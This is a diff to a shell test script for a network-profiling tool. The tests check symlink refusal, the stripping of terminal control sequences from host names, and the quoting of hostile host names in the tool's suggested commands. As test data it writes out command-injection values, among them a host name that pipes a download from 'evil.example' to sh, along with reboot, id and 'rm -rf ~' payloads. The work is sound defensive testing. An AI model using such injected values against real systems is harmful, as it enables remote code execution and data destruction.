@@ -8,9 +8,12 @@
 # (a run.json's machines too, after the records' hosts);
 # --strict on a FIFO whose writer holds it open stops at once; NUL in a
 # string is refused, the last of duplicate keys wins; absurd times
-# are no time; kind and metric names reach the terminal without control
-# characters; write errors on standard output exit 1 (heatmap --text, plan
-# --json, check); thousands of malformed lines are warned of in a few.
+# are no time; kind, metric and host names reach the terminal without
+# control characters (C1 and bytes that are not UTF-8 included, in --text
+# and --metrics alike); write errors on standard output exit 1 (heatmap
+# --text, plan --json, check); the diagnosis' advice quotes a hostile
+# host name where it offers a command line; thousands of malformed lines
+# are warned of in a few.
 . "$(dirname "$0")/lib.sh"
 require_cmd jq mkfifo /usr/bin/time
 
@@ -29,6 +32,19 @@ assert_status 2 np heatmap -i "$in" -o link.html
 assert_contains "$OUT" "link.html is a symbolic link"
 assert_eq secret "$(cat target)" "the link's target is untouched"
 [ -L link.html ] || fail "the symlink was replaced"
+
+# --diagnosis-json FILE is written as the page is: a planted link refused
+# before the records are read, its target unchanged; "-" is standard
+# output alone, with no page written beside it
+ln -s target link.json
+assert_status 2 np heatmap -i "$in" --text --diagnosis-json link.json
+assert_contains "$OUT" "--diagnosis-json link.json is a symbolic link"
+assert_eq secret "$(cat target)" "the diagnosis' link's target is untouched"
+[ -L link.json ] || fail "the diagnosis' symlink was replaced"
+mkdir dash && (cd dash && np heatmap -i "$in" --diagnosis-json - >../dash.json)
+assert_eq '"error"' "$(jq .worst dash.json)" "--diagnosis-json -: the findings"
+assert_eq "" "$(ls -A dash)" "--diagnosis-json - writes no page"
+rm -r dash dash.json
 
 mkfifo fifo.html
 assert_status 2 np heatmap -i "$in" -o fifo.html
@@ -168,6 +184,68 @@ assert_status 2 np heatmap -i odd.jsonl --text --metric nope --kind ping
 assert_status 2 np heatmap -i odd.jsonl --text --metric nope
 [ "$(printf '%s' "$OUT" | tr -d -c '\033\007' | wc -c)" = 0 ] ||
     fail "a metric name's control characters reached an error message"
+
+# Host names and an error that are terminal control sequences: ESC and BEL
+# (a title set), a C1 CSI (U+009B), a lone 0x9B byte. --text shows each
+# as a space ('?' in a fixed-width column), --metrics as U+FFFD: the exact
+# bytes written, and none of those bytes anywhere.
+printf '%s\n' '{"kind":"ping","source":"n3\u001b]0;TITLE\u0007","target":"n4\u009b31m","ok":true,"metrics":{"avg":1.5}}' \
+    '{"kind":"ping","source":"n4\u009b31m","target":"n3\u001b]0;TITLE\u0007","ok":false,"error":"x\u009b2J\u001b[31my"}' >esc.jsonl
+printf '{"kind":"ping","source":"n5\x9bx","target":"n4\\u009b31m","ok":true,"metrics":{"avg":1}}\n' >>esc.jsonl
+no_controls() {	# FILE: no ESC, BEL, C1 CSI or lone 0x9B in it
+	[ "$(LC_ALL=C tr -d -c '\033\007\233' <"$1" | wc -c)" = 0 ] ||
+	    fail "$1: a control sequence from the records reached the output"
+}
+"$NETPROF_BIN" heatmap -i esc.jsonl --text >esc.txt 2>/dev/null
+no_controls esc.txt
+LC_ALL=C grep -qxF '  1 n3?]0;TITLE?  2 n4?31m  3 n5?x' esc.txt ||
+    fail "the key's names: $(grep -a ' 1 n3' esc.txt | od -c | head)"
+LC_ALL=C grep -qxF '  n4 31m -> n3 ]0;TITLE   ping  1/1  tool_failed: x 2J [31my' esc.txt ||
+    fail "the failures' line: $(grep -a ' -> ' esc.txt | od -c | head)"
+"$NETPROF_BIN" heatmap -i esc.jsonl --metrics >esc.prom 2>/dev/null
+no_controls esc.prom
+LC_ALL=C grep -qxF $'netprof_ping_rtt_avg_seconds{source="n3\xef\xbf\xbd]0;TITLE\xef\xbf\xbd",target="n4\xef\xbf\xbd31m"} 0.0015' esc.prom ||
+    fail "the metrics' labels: $(grep -a 'rtt_avg.*n3' esc.prom | od -c | head)"
+LC_ALL=C grep -qxF $'netprof_host_up{host="n5\xef\xbf\xbdx"} 1' esc.prom ||
+    fail "a byte that is not UTF-8: $(grep -a 'host=.n5' esc.prom | od -c | head)"
+
+# The diagnosis' advice names hosts of the records in command lines: a
+# name that breaks the name rule is one quoted word there (a good one is
+# as it is), and a record's command is not offered to be run as it is.
+A='x;curl${IFS}evil.example|sh' B="y\$(reboot)'q" C='z`id`' D='w&&rm -rf ~'
+rec() {	# SOURCE TARGET KIND [METRICS|ERROR CLASS]
+	if [ $# = 4 ]; then
+		jq -cn --arg s "$1" --arg t "$2" --arg k "$3" --argjson m "$4" \
+		    '{kind:$k,source:$s,target:$t,ok:true,metrics:$m}'
+	else
+		jq -cn --arg s "$1" --arg t "$2" --arg k "$3" --arg e "$4" \
+		    --arg c "$5" '{kind:$k,source:$s,target:$t,ok:false,error:$e,error_class:$c}'
+	fi
+}
+for s in a b c d "$A" "$B" "$C" "$D"; do
+	for t in a b c d "$A" "$B" "$C" "$D"; do
+		[ "$s" = "$t" ] && continue
+		case $s in
+		"$B") rec "$s" "$t" ping "authentication failed" auth ;;
+		"$C") rec "$s" "$t" ping "could not parse the output" tool_failed ;;
+		"$D") rec "$s" "$t" ping "auth failed" auth
+		      rec "$s" "$t" iperf3 "auth failed" auth ;;
+		*) rec "$s" "$t" ping '{"avg":1}' ;;
+		esac
+		m=940; [ "$s" = "$A" ] && [ "$t" = a ] && m=100
+		[ "$s" = "$D" ] || rec "$s" "$t" iperf3 "{\"mbps\":$m}"
+	done
+done >advice.jsonl
+"$NETPROF_BIN" heatmap -i advice.jsonl --text >advice.txt 2>/dev/null
+for want in \
+    "    try: Run netprof check --config FILE --hosts 'y\$(reboot)'\\''q': it names the reason (sshd, its port, the host key, the login) and the fix." \
+    "    try: Check w&&rm -rf ~'s sshd and what guards its SSH port; netprof check --config FILE --hosts 'w&&rm -rf ~' names the reason." \
+    "    try: One throughput test, one way, and nothing else on the pair says so: a short TCP test now and then collapses. Measure the pair again (netprof collect --iperf -H 'x;curl\${IFS}evil.example|sh',a, or read two runs together with netprof heatmap --aggregate median); if it holds, check the path x;curl\${IFS}evil.example|sh -> a (mtr both ways, a rule that shapes it)." \
+    "    try: Run the probe by hand to see the tool's whole output on z\`id\`; the record's command field is the line as the records file gives it (anyone may have written it): read it before you run it."; do
+	grep -qxF -- "$want" advice.txt ||
+	    fail "the advice: want '$want'; the text has: $(grep 'try:' advice.txt)"
+	TEST_CHECKS=$((TEST_CHECKS + 1))
+done
 
 # A failed record of a host against itself (found by fuzzing: a crash).
 printf '%s\n' '{"kind":"ping","source":"a","target":"a","ok":false,"error":"x"}' \
